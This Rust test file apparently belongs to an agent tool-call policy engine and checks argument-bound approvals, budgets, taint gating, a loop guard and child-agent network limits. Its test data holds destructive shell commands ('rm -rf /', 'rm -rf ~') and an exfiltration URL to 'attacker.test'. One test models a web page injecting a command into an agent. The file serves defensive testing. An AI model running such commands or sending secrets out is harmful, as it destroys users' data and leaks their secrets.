//! Attack tests for the policy: approvals bound to exact arguments and expiring, budgets that do
//! not reset, taint that gates dangerous tools, the loop guard.

// Helpers below panic on setup failures, as tests do.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use rampart_core::AgentName;
use rampart_policy::{
    Call, Grant, ManualClock, NetworkGrant, Policy, PolicyConfig, PolicyError, Verdict,
};
use rampart_store::Store;
use serde_json::{Value, json};

fn grant(tools: &[&str], shell: u32, writes: u32) -> Grant {
    Grant {
        tools: tools.iter().map(|s| (*s).to_owned()).collect(),
        max_shell_commands: shell,
        max_file_writes: writes,
        network: NetworkGrant::AnyPublic,
        shell_network: false,
        depth: 0,
    }
}

fn setup(cfg: PolicyConfig) -> (Policy, Arc<ManualClock>, AgentName) {
    let clock = Arc::new(ManualClock::new(1_700_000_000));
    let p = Policy::new(cfg, Store::open_in_memory().unwrap(), clock.clone());
    (p, clock, "ops".parse().unwrap())
}

fn call<'a>(agent: &'a AgentName, tool: &'a str, args: &'a Value, g: &'a Grant) -> Call<'a> {
    Call {
        agent,
        session: "s1",
        tool,
        args,
        grant: g,
    }
}

fn approval_id(v: Verdict) -> String {
    match v {
        Verdict::ApprovalRequired { approval_id, .. } => approval_id,
        other => panic!("expected approval_required, got {other:?}"),
    }
}

#[test]
fn approval_for_echo_a_does_not_authorize_echo_b() {
    let (p, _, agent) = setup(PolicyConfig::default());
    let g = grant(&["shell_exec"], 10, 0);
    let (a, b) = (json!({"command": "echo a"}), json!({"command": "echo b"}));
    let id = approval_id(p.check(&call(&agent, "shell_exec", &a, &g)).unwrap());
    p.decide(&id, true, "alice").unwrap();
    let id_b = approval_id(p.check(&call(&agent, "shell_exec", &b, &g)).unwrap());
    assert_ne!(id, id_b);
    // Key order is not "different arguments"; a different session is.
    let a_reordered: Value = serde_json::from_str(r#"{ "command" : "echo a" }"#).unwrap();
    let other_session = Call {
        session: "s2",
        ..call(&agent, "shell_exec", &a, &g)
    };
    assert!(matches!(
        p.check(&other_session).unwrap(),
        Verdict::ApprovalRequired { .. }
    ));
    assert_eq!(
        p.check(&call(&agent, "shell_exec", &a_reordered, &g))
            .unwrap(),
        Verdict::Allow {
            warning: None,
            approval_id: Some(id.clone())
        }
    );
    // Single use: the same call again needs a new approval.
    let again = approval_id(p.check(&call(&agent, "shell_exec", &a, &g)).unwrap());
    assert_ne!(again, id);
    // A used approval cannot be decided again.
    assert!(matches!(
        p.decide(&id, true, "alice"),
        Err(PolicyError::ApprovalClosed("used"))
    ));
}

#[test]
fn an_expired_approval_is_refused() {
    let cfg = PolicyConfig {
        approval_ttl_secs: 60,
        ..PolicyConfig::default()
    };
    let (p, clock, agent) = setup(cfg);
    let g = grant(&["shell_exec"], 10, 0);
    let args = json!({"command": "ls"});
    // Approved in time, used too late.
    let id = approval_id(p.check(&call(&agent, "shell_exec", &args, &g)).unwrap());
    p.decide(&id, true, "alice").unwrap();
    clock.advance(61);
    let fresh = approval_id(p.check(&call(&agent, "shell_exec", &args, &g)).unwrap());
    assert_ne!(fresh, id, "an expired approval must not run the call");
    // Decided too late.
    clock.advance(61);
    assert!(matches!(
        p.decide(&fresh, true, "alice"),
        Err(PolicyError::ApprovalClosed("expired"))
    ));
    assert!(matches!(
        p.decide("not-an-id", true, "alice"),
        Err(PolicyError::InvalidApprovalId)
    ));
}

#[test]
fn a_denied_approval_does_not_run_the_call() {
    let (p, _, agent) = setup(PolicyConfig::default());
    let g = grant(&["shell_exec"], 10, 0);
    let args = json!({"command": "rm -rf /"});
    let id = approval_id(p.check(&call(&agent, "shell_exec", &args, &g)).unwrap());
    p.decide(&id, false, "alice").unwrap();
    assert!(matches!(
        p.check(&call(&agent, "shell_exec", &args, &g)).unwrap(),
        Verdict::ApprovalRequired { .. }
    ));
}

#[test]
fn max_file_writes_2_denies_the_third_write() {
    let (p, _, agent) = setup(PolicyConfig::default());
    let g = grant(&["file_write"], 0, 2);
    for i in 0..2 {
        let args = json!({"path": format!("f{i}"), "content": "x"});
        assert!(matches!(
            p.check(&call(&agent, "file_write", &args, &g)).unwrap(),
            Verdict::Allow { .. }
        ));
    }
    let args = json!({"path": "f3", "content": "x"});
    assert!(matches!(
        p.check(&call(&agent, "file_write", &args, &g)).unwrap(),
        Verdict::Block(r) if r.contains("file_writes")
    ));
    // Shell commands are bounded the same way (0 = none), after approval.
    let g = grant(&["shell_exec"], 0, 0);
    let mut cfg = PolicyConfig::default();
    cfg.approval_required.clear();
    let (p, _, agent) = setup(cfg);
    let args = json!({"command": "true"});
    assert!(matches!(
        p.check(&call(&agent, "shell_exec", &args, &g)).unwrap(),
        Verdict::Block(r) if r.contains("shell_commands")
    ));
}

#[test]
fn a_web_page_saying_run_rm_rf_cannot_trigger_shell_without_approval() {
    // Even with shell_exec removed from approval_required, taint gates it.
    let mut cfg = PolicyConfig::default();
    cfg.approval_required.clear();
    let (p, _, agent) = setup(cfg);
    let g = grant(&["shell_exec", "web_fetch"], 10, 0);
    let ls = json!({"command": "ls"});
    assert!(matches!(
        p.check(&call(&agent, "shell_exec", &ls, &g)).unwrap(),
        Verdict::Allow { .. }
    ));
    let page = json!({"url": "https://example.com/page"});
    assert!(matches!(
        p.check(&call(&agent, "web_fetch", &page, &g)).unwrap(),
        Verdict::Allow { .. }
    ));
    p.after_call(&agent, "s1", "web_fetch", &page, true);
    assert_eq!(p.taint(&agent, "s1"), vec!["web_fetch".to_owned()]);
    let rm = json!({"command": "rm -rf ~"});
    match p.check(&call(&agent, "shell_exec", &rm, &g)).unwrap() {
        Verdict::ApprovalRequired { reason, .. } => assert!(reason.contains("tainted")),
        other => panic!("tainted shell_exec ran without approval: {other:?}"),
    }
    // The host already reached stays reachable; a new one needs approval.
    let same = json!({"url": "https://EXAMPLE.com/other"});
    assert!(matches!(
        p.check(&call(&agent, "web_fetch", &same, &g)).unwrap(),
        Verdict::Allow { .. }
    ));
    let exfil = json!({"url": "https://attacker.test/?d=secrets"});
    assert!(matches!(
        p.check(&call(&agent, "web_fetch", &exfil, &g)).unwrap(),
        Verdict::ApprovalRequired { .. }
    ));
    // Another session is not tainted.
    let other = Call {
        session: "s2",
        ..call(&agent, "shell_exec", &rm, &g)
    };
    assert!(matches!(p.check(&other).unwrap(), Verdict::Allow { .. }));
}

#[test]
fn taint_survives_a_restart() {
    let dir = tempfile_dir();
    let db = dir.join("rampart.db");
    let agent: AgentName = "ops".parse().unwrap();
    let clock = Arc::new(ManualClock::new(1_700_000_000));
    let mut cfg = PolicyConfig::default();
    cfg.approval_required.clear();
    {
        let p = Policy::new(cfg.clone(), Store::open(&db).unwrap(), clock.clone());
        p.after_call(&agent, "s1", "file_read", &json!({"path": "x"}), true);
    }
    let p = Policy::new(cfg, Store::open(&db).unwrap(), clock);
    let g = grant(&["shell_exec"], 10, 0);
    let args = json!({"command": "ls"});
    assert!(matches!(
        p.check(&call(&agent, "shell_exec", &args, &g)).unwrap(),
        Verdict::ApprovalRequired { .. }
    ));
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn daily_token_budget_is_not_reset_by_a_new_session_or_restart() {
    let dir = tempfile_dir();
    let db = dir.join("rampart.db");
    let agent: AgentName = "ops".parse().unwrap();
    let clock = Arc::new(ManualClock::new(1_700_000_000));
    let mut cfg = PolicyConfig::default();
    cfg.budgets.tokens_per_day = 1_000;
    cfg.budgets.tokens_per_session = 800;
    {
        let p = Policy::new(cfg.clone(), Store::open(&db).unwrap(), clock.clone());
        assert_eq!(p.admit_model_call(&agent, "s1").unwrap(), None);
        p.record_tokens(&agent, "s1", 800).unwrap();
        assert!(p.admit_model_call(&agent, "s1").unwrap().is_some());
        p.record_tokens(&agent, "s2", 300).unwrap();
    }
    let p = Policy::new(cfg, Store::open(&db).unwrap(), clock.clone());
    let refused = p.admit_model_call(&agent, "s3").unwrap();
    assert!(refused.is_some_and(|r| r.contains("daily_tokens")));
    // The next UTC day starts afresh.
    clock.advance(86_400);
    assert_eq!(p.admit_model_call(&agent, "s3").unwrap(), None);
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn loop_guard_blocks_a_repeated_call_and_ping_pong() {
    let (p, _, agent) = setup(PolicyConfig::default());
    let g = grant(&["file_read"], 0, 0);
    let a = json!({"path": "a"});
    let b = json!({"path": "b"});
    let verdicts: Vec<Verdict> = [&a, &b, &a, &b, &a, &b]
        .iter()
        .map(|args| p.check(&call(&agent, "file_read", args, &g)).unwrap())
        .collect();
    assert!(matches!(
        &verdicts[3],
        Verdict::Allow {
            warning: Some(_),
            ..
        }
    ));
    assert!(matches!(&verdicts[5], Verdict::Block(r) if r.contains("ping-pong")));
}

#[test]
fn tool_call_budget_per_session() {
    let mut cfg = PolicyConfig::default();
    cfg.budgets.tool_calls_per_session = 3;
    let (p, _, agent) = setup(cfg);
    let g = grant(&["file_read"], 0, 0);
    for i in 0..3 {
        let args = json!({"path": format!("{i}")});
        assert!(matches!(
            p.check(&call(&agent, "file_read", &args, &g)).unwrap(),
            Verdict::Allow { .. }
        ));
    }
    let args = json!({"path": "x"});
    assert!(matches!(
        p.check(&call(&agent, "file_read", &args, &g)).unwrap(),
        Verdict::Block(r) if r.contains("tool_calls")
    ));
}

/// A fresh private directory, kept until the test removes it.
fn tempfile_dir() -> std::path::PathBuf {
    tempfile::tempdir().expect("temp dir").keep()
}

#[test]
fn a_child_without_network_keeps_no_plugin_tool_that_could_fetch() {
    // The parent may reach one host and holds a plugin tool (which may use `http_fetch`).
    let mut parent = grant(&["agent_spawn", "file_read", "weather__forecast"], 0, 0);
    parent.network = NetworkGrant::Hosts(["api.example".to_owned()].into());
    // The child asks for the plugin tool but for another host: the intersection is no network.
    let mut asks = grant(&["file_read", "weather__forecast", "web_fetch"], 0, 0);
    asks.network = NetworkGrant::Hosts(["evil.example".to_owned()].into());
    let child = rampart_policy::derive_child(&parent, &asks).unwrap();
    assert!(child.network.is_none());
    assert!(child.tools.contains("file_read"));
    assert!(!child.tools.contains("weather__forecast"), "{child:?}");
    assert!(!child.tools.contains("web_fetch"), "{child:?}");
    // With a host in common the plugin tool stays.
    asks.network = NetworkGrant::Hosts(["api.example".to_owned()].into());
    let child = rampart_policy::derive_child(&parent, &asks).unwrap();
    assert!(child.tools.contains("weather__forecast"), "{child:?}");
}
